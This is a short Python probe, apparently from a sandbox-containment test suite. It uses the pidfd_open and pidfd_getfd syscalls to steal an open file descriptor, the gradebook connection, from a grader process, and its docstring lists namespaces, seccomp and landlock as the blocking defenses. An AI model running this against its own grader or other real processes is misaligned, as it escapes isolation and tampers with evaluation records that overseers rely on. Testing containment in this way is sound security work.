"""Copies open files out of the grader.

Loot: the gradebook's connection
Stopped by: namespaces, seccomp, landlock
"""

import ctypes

libc = ctypes.CDLL(None)
handle = libc.syscall(434, GRADER, 0)
if handle >= 0 and libc.syscall(438, handle, 0, 0) >= 0:
    loot("a descriptor")
